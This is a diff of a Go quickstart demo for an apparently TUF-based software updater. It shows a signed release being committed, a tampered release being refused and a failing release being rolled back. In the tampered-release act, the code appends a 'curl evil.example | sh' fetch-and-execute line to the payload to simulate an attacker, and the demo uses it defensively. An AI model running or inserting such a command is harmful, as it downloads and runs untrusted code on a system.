@@ -66,214 +66,270 @@ func app(version string, code int) []byte {
 }
 
 func run(ctx context.Context, out io.Writer) error {
-	tr := &transcript{w: out, start: time.Now()}
 	work, err := os.MkdirTemp("", "switchback-quickstart-")
 	if err != nil {
 		return err
 	}
 	defer os.RemoveAll(work)
-
-	// --- Publisher side: a signed, static TUF repository. ---
-	repo, err := repository.Init(ctx, repository.Config{Dir: filepath.Join(work, "server")},
-		repository.InitOptions{KeysDir: filepath.Join(work, "keys")})
-	if err != nil {
-		return fmt.Errorf("init repository: %w", err)
+	d := &demo{
+		tr:       &transcript{w: out, start: time.Now()},
+		work:     work,
+		appPath:  filepath.Join(work, "device", "bin", "gateway"),
+		stateDir: filepath.Join(work, "device", "state"),
 	}
-	rootJSON, err := os.ReadFile(filepath.Join(repo.MetadataDir(), "1.root.json"))
+	stop, err := d.startPublisher(ctx)
 	if err != nil {
 		return err
+	}
+	defer stop()
+	for _, act := range []func(context.Context) error{
+		d.startDevice,
+		d.releaseGood,
+		d.releaseTampered,
+		d.releaseUnhealthy,
+	} {
+		if err := act(ctx); err != nil {
+			return err
+		}
+	}
+	d.tr.say("quickstart passed: committed v1.1.0, refused a tampered release, rolled back v1.2.0")
+	return nil
+}
+
+// demo is the state the acts of the demo share: the publisher's
+// repository and the device's updater.
+type demo struct {
+	tr   *transcript
+	work string
+
+	// Publisher side.
+	repo     *repository.Repo
+	rootJSON []byte // the device's trusted root
+	base     string // URL of the served repository
+
+	// Device side.
+	appPath  string // the application binary, a file slot
+	stateDir string
+	dev      *updater.Updater
+	restarts int
+}
+
+// startPublisher creates a signed, static TUF repository and serves it on
+// 127.0.0.1; stop stops the server.
+func (d *demo) startPublisher(ctx context.Context) (stop func() error, err error) {
+	d.repo, err = repository.Init(ctx, repository.Config{Dir: filepath.Join(d.work, "server")},
+		repository.InitOptions{KeysDir: filepath.Join(d.work, "keys")})
+	if err != nil {
+		return nil, fmt.Errorf("init repository: %w", err)
+	}
+	d.rootJSON, err = os.ReadFile(filepath.Join(d.repo.MetadataDir(), "1.root.json"))
+	if err != nil {
+		return nil, err
 	}
 	ln, err := net.Listen("tcp", "127.0.0.1:0")
 	if err != nil {
-		return err
+		return nil, err
 	}
-	srv := &http.Server{Handler: http.FileServer(http.Dir(repo.Dir())), ReadHeaderTimeout: 10 * time.Second}
+	srv := &http.Server{Handler: http.FileServer(http.Dir(d.repo.Dir())), ReadHeaderTimeout: 10 * time.Second}
 	go srv.Serve(ln)
-	defer srv.Close()
-	base := "http://" + ln.Addr().String()
-	tr.say("publisher: signed TUF repository (root, targets, snapshot, timestamp) served as static files on %s", base)
+	d.base = "http://" + ln.Addr().String()
+	d.tr.say("publisher: signed TUF repository (root, targets, snapshot, timestamp) served as static files on %s", d.base)
+	return srv.Close, nil
+}
 
-	publish := func(version string, data []byte) (repository.Target, error) {
-		t, err := repo.AddTarget(ctx, "app/gateway-"+version, bytes.NewReader(data),
-			verify.Custom{Component: "app", Version: version, Hardware: []string{hardware}}, repository.AddOptions{})
-		if err != nil {
-			return t, err
-		}
-		return t, repo.Publish(ctx)
+// publish adds version of the application to the repository and signs
+// new metadata.
+func (d *demo) publish(ctx context.Context, version string, data []byte) (repository.Target, error) {
+	t, err := d.repo.AddTarget(ctx, "app/gateway-"+version, bytes.NewReader(data),
+		verify.Custom{Component: "app", Version: version, Hardware: []string{hardware}}, repository.AddOptions{})
+	if err != nil {
+		return t, err
 	}
+	return t, d.repo.Publish(ctx)
+}
 
-	// --- Device side: the application binary is a file slot. ---
-	appPath := filepath.Join(work, "device", "bin", "gateway")
-	if err := os.MkdirAll(filepath.Dir(appPath), 0o755); err != nil {
+// startDevice installs the factory version of the application and starts
+// the device for the first time.
+func (d *demo) startDevice(ctx context.Context) error {
+	if err := os.MkdirAll(filepath.Dir(d.appPath), 0o755); err != nil {
 		return err
 	}
-	if err := os.WriteFile(appPath, app("1.0.0", 0), 0o755); err != nil {
+	if err := os.WriteFile(d.appPath, app("1.0.0", 0), 0o755); err != nil {
 		return err
 	}
-	stateDir := filepath.Join(work, "device", "state")
-	restarts := 0
-	// newDevice is one start of the device's process: it opens the slot
-	// and the updater on the same state directory, as a real restart does.
-	newDevice := func() (*updater.Updater, error) {
-		file, err := slots.NewFile(appPath, slots.WithFileMode(0o755))
-		if err != nil {
-			return nil, err
-		}
-		return updater.New(updater.Config{
-			Hardware:    hardware,
-			StateDir:    stateDir,
-			TrustedRoot: rootJSON,
-			MetadataURL: base + "/metadata/",
-			TargetsURL:  base + "/targets/",
-			Components: []updater.Component{{
-				Name: "app", Slots: file.Slots(), Boot: file, FactoryVersion: "1.0.0",
-			}},
-			// The application must start and exit 0.
-			HealthChecks:   []health.HealthCheck{health.Command(appPath)},
-			ConfirmTimeout: 20 * time.Second,
-			Restart: func(ctx context.Context, component string) error {
-				restarts++
-				return nil
-			},
-			Events: func(e updater.Event) {
-				switch e := e.(type) {
-				case updater.StateChanged:
-					msg := fmt.Sprintf("device: %s %s → %s", e.Version, e.From, e.To)
-					if e.Reason != "" {
-						msg += " (" + firstLine(e.Reason) + ")"
-					}
-					tr.say("%s", msg)
-				case updater.HealthResult:
-					status := "ok"
-					if e.Err != nil {
-						status = "FAILED: " + firstLine(e.Err.Error())
-					}
-					tr.say("device: health check %s: %s (%s)", e.Check, status, e.Duration.Round(time.Millisecond))
-				}
-			},
-			Logger: slog.New(slog.DiscardHandler),
-		})
+	var err error
+	if d.dev, err = d.newDevice(); err != nil {
+		return err
 	}
-	running := func() string {
-		b, _ := os.ReadFile(appPath)
-		if i := strings.Index(string(b), "gateway "); i >= 0 {
-			return strings.Fields(string(b[i:]))[1]
-		}
-		return "?"
+	if err := d.dev.Confirm(ctx); err != nil {
+		return fmt.Errorf("first start: %w", err)
 	}
-	dev, err := newDevice()
+	d.tr.say("device: factory version %s runs (%s)", d.running(), d.appPath)
+	return nil
+}
+
+// newDevice is one start of the device's process: it opens the slot and
+// the updater on the same state directory, as a real restart does.
+func (d *demo) newDevice() (*updater.Updater, error) {
+	file, err := slots.NewFile(d.appPath, slots.WithFileMode(0o755))
+	if err != nil {
+		return nil, err
+	}
+	return updater.New(updater.Config{
+		Hardware:    hardware,
+		StateDir:    d.stateDir,
+		TrustedRoot: d.rootJSON,
+		MetadataURL: d.base + "/metadata/",
+		TargetsURL:  d.base + "/targets/",
+		Components: []updater.Component{{
+			Name: "app", Slots: file.Slots(), Boot: file, FactoryVersion: "1.0.0",
+		}},
+		// The application must start and exit 0.
+		HealthChecks:   []health.HealthCheck{health.Command(d.appPath)},
+		ConfirmTimeout: 20 * time.Second,
+		Restart: func(ctx context.Context, component string) error {
+			d.restarts++
+			return nil
+		},
+		Events: d.event,
+		Logger: slog.New(slog.DiscardHandler),
+	})
+}
+
+// event prints the updater's state changes and health results.
+func (d *demo) event(e updater.Event) {
+	switch e := e.(type) {
+	case updater.StateChanged:
+		msg := fmt.Sprintf("device: %s %s → %s", e.Version, e.From, e.To)
+		if e.Reason != "" {
+			msg += " (" + firstLine(e.Reason) + ")"
+		}
+		d.tr.say("%s", msg)
+	case updater.HealthResult:
+		status := "ok"
+		if e.Err != nil {
+			status = "FAILED: " + firstLine(e.Err.Error())
+		}
+		d.tr.say("device: health check %s: %s (%s)", e.Check, status, e.Duration.Round(time.Millisecond))
+	}
+}
+
+// running returns the version of the application in place.
+func (d *demo) running() string {
+	b, _ := os.ReadFile(d.appPath)
+	if i := strings.Index(string(b), "gateway "); i >= 0 {
+		return strings.Fields(string(b[i:]))[1]
+	}
+	return "?"
+}
+
+// update runs one check and installs what it finds.
+func (d *demo) update(ctx context.Context) error {
+	ups, err := d.dev.Check(ctx)
 	if err != nil {
 		return err
 	}
-	if err := dev.Confirm(ctx); err != nil {
-		return fmt.Errorf("first start: %w", err)
-	}
-	tr.say("device: factory version %s runs (%s)", running(), appPath)
-
-	// update runs one check and installs what it finds.
-	update := func() error {
-		ups, err := dev.Check(ctx)
-		if err != nil {
+	for _, up := range ups {
+		d.tr.say("device: found %s %s → %s (%s, %d bytes)", up.Component, up.From, up.To, up.Target.Path, up.Target.Length)
+		if err := d.dev.Install(ctx, up); err != nil {
 			return err
 		}
-		for _, up := range ups {
-			tr.say("device: found %s %s → %s (%s, %d bytes)", up.Component, up.From, up.To, up.Target.Path, up.Target.Length)
-			if err := dev.Install(ctx, up); err != nil {
-				return err
-			}
-		}
-		return nil
 	}
-	restart := func() error {
-		tr.say("device: restarting into %s", running())
-		dev.Close() // the old process ends: it lets go of the state directory
-		if dev, err = newDevice(); err != nil {
-			return err
-		}
-		return dev.Confirm(ctx)
-	}
+	return nil
+}
 
-	// 1. A good release.
-	tr.say("--- 1. publisher releases v1.1.0")
-	if _, err := publish("1.1.0", app("1.1.0", 0)); err != nil {
+// restart ends the device's process and starts a new one, which confirms
+// (or rolls back) what the old one installed.
+func (d *demo) restart(ctx context.Context) error {
+	d.tr.say("device: restarting into %s", d.running())
+	d.dev.Close() // the old process ends: it lets go of the state directory
+	var err error
+	if d.dev, err = d.newDevice(); err != nil {
 		return err
 	}
-	if err := update(); err != nil {
+	return d.dev.Confirm(ctx)
+}
+
+// releaseGood is act 1: a good release is installed and committed.
+func (d *demo) releaseGood(ctx context.Context) error {
+	d.tr.say("--- 1. publisher releases v1.1.0")
+	if _, err := d.publish(ctx, "1.1.0", app("1.1.0", 0)); err != nil {
+		return err
+	}
+	if err := d.update(ctx); err != nil {
 		return fmt.Errorf("step 1: update: %w", err)
 	}
-	if err := restart(); err != nil {
+	if err := d.restart(ctx); err != nil {
 		return fmt.Errorf("step 1: confirm: %w", err)
 	}
-	if v := running(); v != "1.1.0" {
+	if v := d.running(); v != "1.1.0" {
 		return fmt.Errorf("step 1: running %s, want 1.1.0", v)
 	}
-	tr.say("OK: v1.1.0 committed and running")
+	d.tr.say("OK: v1.1.0 committed and running")
+	return nil
+}
 
-	// 2. A release whose bytes an attacker replaced on the server.
-	tr.say("--- 2. publisher releases v1.1.1; an attacker replaces its bytes on the server")
-	t, err := publish("1.1.1", app("1.1.1", 0))
+// releaseTampered is act 2: a release whose bytes an attacker replaced on
+// the server is refused before activation, then withdrawn.
+func (d *demo) releaseTampered(ctx context.Context) error {
+	d.tr.say("--- 2. publisher releases v1.1.1; an attacker replaces its bytes on the server")
+	t, err := d.publish(ctx, "1.1.1", app("1.1.1", 0))
 	if err != nil {
 		return err
 	}
 	evil := app("1.1.1", 0)
 	evil = append(evil[:len(evil)-1], []byte("; curl evil.example | sh\n")...)
 	evil = evil[:t.Length] // same length, different bytes
-	if err := os.WriteFile(filepath.Join(repo.TargetsDir(), t.File), evil, 0o644); err != nil {
+	if err := os.WriteFile(filepath.Join(d.repo.TargetsDir(), t.File), evil, 0o644); err != nil {
 		return err
 	}
-	err = update()
+	err = d.update(ctx)
 	if !errors.Is(err, verify.ErrVerification) {
 		return fmt.Errorf("step 2: tampered release: got %v, want a verification error", err)
 	}
-	tr.say("device: refused: %s", firstLine(err.Error()))
-	if v := running(); v != "1.1.0" || restarts != 1 {
-		return fmt.Errorf("step 2: running %s after %d restarts, want 1.1.0 untouched", v, restarts)
+	d.tr.say("device: refused: %s", firstLine(err.Error()))
+	if v := d.running(); v != "1.1.0" || d.restarts != 1 {
+		return fmt.Errorf("step 2: running %s after %d restarts, want 1.1.0 untouched", v, d.restarts)
 	}
-	tr.say("OK: tampered v1.1.1 refused before activation; v1.1.0 still runs")
+	d.tr.say("OK: tampered v1.1.1 refused before activation; v1.1.0 still runs")
 	// The publisher notices and withdraws it.
-	if err := repo.RemoveTarget(t.Path); err != nil {
+	if err := d.repo.RemoveTarget(t.Path); err != nil {
 		return err
 	}
-	if err := repo.Publish(ctx); err != nil {
-		return err
-	}
+	return d.repo.Publish(ctx)
+}
 
-	// 3. A release that starts but is unhealthy.
-	tr.say("--- 3. publisher releases v1.2.0, which fails on start")
-	if _, err := publish("1.2.0", app("1.2.0", 3)); err != nil {
+// releaseUnhealthy is act 3: a release that fails its health check rolls
+// back by itself, is blocklisted and not retried.
+func (d *demo) releaseUnhealthy(ctx context.Context) error {
+	d.tr.say("--- 3. publisher releases v1.2.0, which fails on start")
+	if _, err := d.publish(ctx, "1.2.0", app("1.2.0", 3)); err != nil {
 		return err
 	}
-	if err := update(); err != nil {
+	if err := d.update(ctx); err != nil {
 		return fmt.Errorf("step 3: update: %w", err)
 	}
-	err = restart()
-	if !errors.Is(err, updater.ErrRolledBack) {
+	if err := d.restart(ctx); !errors.Is(err, updater.ErrRolledBack) {
 		return fmt.Errorf("step 3: confirm: got %v, want a rollback", err)
 	}
-	if v := running(); v != "1.1.0" {
+	if v := d.running(); v != "1.1.0" {
 		return fmt.Errorf("step 3: running %s after rollback, want 1.1.0", v)
 	}
-	tr.say("device: restarting into %s", running())
-	dev.Close()
-	if dev, err = newDevice(); err != nil {
-		return err
-	}
-	if err := dev.Confirm(ctx); err != nil {
+	if err := d.restart(ctx); err != nil {
 		return fmt.Errorf("step 3: start after rollback: %w", err)
 	}
-	tr.say("OK: v1.2.0 rolled back by itself; v1.1.0 runs")
-	if _, err := dev.Check(ctx); !errors.Is(err, updater.ErrNoUpdate) {
+	d.tr.say("OK: v1.2.0 rolled back by itself; v1.1.0 runs")
+	if _, err := d.dev.Check(ctx); !errors.Is(err, updater.ErrNoUpdate) {
 		return fmt.Errorf("step 3: next check: got %v, want no update (v1.2.0 blocklisted)", err)
 	}
-	st, err := dev.Status(ctx)
+	st, err := d.dev.Status(ctx)
 	if err != nil {
 		return err
 	}
 	for _, b := range st.Blocklist {
-		tr.say("device: blocklisted %s %s: %s", b.Component, b.Version, firstLine(b.Reason))
+		d.tr.say("device: blocklisted %s %s: %s", b.Component, b.Version, firstLine(b.Reason))
 	}
-	tr.say("OK: next check finds nothing to install: v1.2.0 is not retried")
-	tr.say("quickstart passed: committed v1.1.0, refused a tampered release, rolled back v1.2.0")
+	d.tr.say("OK: next check finds nothing to install: v1.2.0 is not retried")
 	return nil
 }
 
